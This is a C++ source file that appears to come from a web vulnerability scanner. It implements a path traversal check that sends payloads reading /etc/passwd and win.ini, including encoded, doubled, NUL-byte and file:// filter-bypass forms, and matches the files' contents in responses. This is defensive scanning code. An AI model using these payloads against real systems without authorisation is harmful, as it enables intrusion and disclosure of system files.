// SPDX-License-Identifier: Apache-2.0
// Path traversal / local file inclusion (web.path_traversal): the parameter is set to paths of files that exist on
// every Unix (/etc/passwd) or Windows (win.ini) host, in the forms that get past common filters; a hit needs the
// file's content in the answer and not in the answer for the original value.
#include <memory>
#include <vector>

#include "scan/modules/web/checks/active/active_checks.hpp"
#include "scan/modules/web/checks/active/active_internal.hpp"

namespace palisade::scan::web {
namespace {

using active::Check;

struct FileTarget {
    std::string_view file;
    std::unique_ptr<re2::RE2> signature;
};

const std::vector<FileTarget>& Targets() {
    static const std::vector<FileTarget> targets = [] {
        std::vector<FileTarget> out;
        // The root entry of /etc/passwd: "root:x:0:0:", "root:*:0:0:", "root::0:0:" or an old inline hash.
        out.push_back({"/etc/passwd", active::CompileSignature(R"((root:[^:\r\n<]{0,100}:0:0:[^\r\n<]{0,80}))")});
        // win.ini: its comment line, or its first two sections in order.
        out.push_back(
            {"win.ini", active::CompileSignature(
                            R"((; for 16-bit app support|\[fonts\]\s*\r?\n(?:[^\[]{0,200})\[extensions\]))")});
        return out;
    }();
    return targets;
}

std::string Repeat(std::string_view part, int times) {
    std::string out;
    for (int i = 0; i < times; ++i) out += part;
    return out;
}

// The extension of the original value (".php" of "page.php"), or ".html"; used behind a NUL byte so that an
// application appending or checking an extension still opens the file before the NUL.
std::string ExtensionOf(std::string_view value) {
    std::size_t slash = value.find_last_of("/\\");
    std::size_t dot = value.rfind('.');
    if (dot == std::string_view::npos || (slash != std::string_view::npos && dot < slash) || value.size() - dot > 6) {
        return ".html";
    }
    return std::string(value.substr(dot));
}

struct Payload {
    std::string value;
    std::size_t target = 0;  // index into Targets()
};

std::vector<Payload> Payloads(const std::string& original) {
    constexpr int kDepth = 8;
    const std::string up = Repeat("../", kDepth);
    std::vector<Payload> out = {
        {up + "etc/passwd", 0},
        {"/etc/passwd", 0},
        {Repeat("....//", kDepth) + "etc/passwd", 0},               // filters that delete "../" once
        {Repeat("..%2f", kDepth) + "etc%2fpasswd", 0},              // decoded again by the application
        {Repeat("%252e%252e%252f", kDepth) + "etc%252fpasswd", 0},  // decoded twice more
        {up + "etc/passwd" + std::string(1, '\0') + ExtensionOf(original), 0},
        {"file:///etc/passwd", 0},  // URL-fetching parameters
        {Repeat("..\\", kDepth) + "windows\\win.ini", 1},
        {up + "windows/win.ini", 1},
        {"C:\\Windows\\win.ini", 1},
    };
    // Relative to the directory the original value names ("images/a.png" -> "images/../../..").
    std::size_t slash = original.find_last_of('/');
    if (slash != std::string::npos && slash > 0 && original.find("://") == std::string::npos) {
        out.insert(out.begin() + 1, Payload{original.substr(0, slash + 1) + up + "etc/passwd", 0});
    }
    return out;
}

}  // namespace

void CheckPathTraversal(CheckContext& ctx, const InjectionPoint& point) {
    if (point.index >= point.params.size()) return;
    auto baseline = active::Send(ctx, BuildInjection(point, point.original()));
    if (!baseline) return;
    const auto& targets = Targets();
    std::vector<bool> in_baseline;
    for (const auto& t : targets) in_baseline.push_back(active::FirstMatch(*t.signature, baseline->body).has_value());
    for (const Payload& payload : Payloads(point.original())) {
        if (in_baseline[payload.target]) continue;  // the page shows such content anyway: proves nothing
        auto response = active::Send(ctx, BuildInjection(point, payload.value));
        if (!response) return;
        auto match = active::FirstMatch(*targets[payload.target].signature, response->body);
        if (!match) continue;
        std::string evidence = active::PointWhere(point) + " = " + active::OneLine(payload.value, 90) + " returned " +
                               std::string(targets[payload.target].file) + " content: " + active::OneLine(*match, 80) +
                               " (status " + std::to_string(response->status) + ")";
        ctx.report(
            MakeFinding(Check("web.path_traversal"), point.url, std::move(evidence), active::PointDetail(point)));
        return;
    }
}

}  // namespace palisade::scan::web
